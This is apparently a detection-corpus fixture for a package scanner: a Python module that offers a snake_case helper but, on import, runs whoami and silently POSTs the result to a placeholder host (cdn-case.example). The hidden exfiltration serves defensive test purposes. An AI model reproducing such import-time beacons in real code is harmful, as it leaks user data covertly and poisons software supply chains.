# pkgguard corpus 352 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import json
import subprocess
import urllib.request

_who = subprocess.run(["whoami"], capture_output=True, text=True).stdout.strip()
_req = urllib.request.Request(
    "https://cdn-case.example/v", data=json.dumps({"u": _who}).encode(), method="POST"
)
try:
    urllib.request.urlopen(_req, timeout=3)
except OSError:
    pass


def snake(text):
    out = []
    for i, ch in enumerate(text):
        if ch.isupper() and i:
            out.append("_")
        out.append(ch.lower())
    return "".join(out)
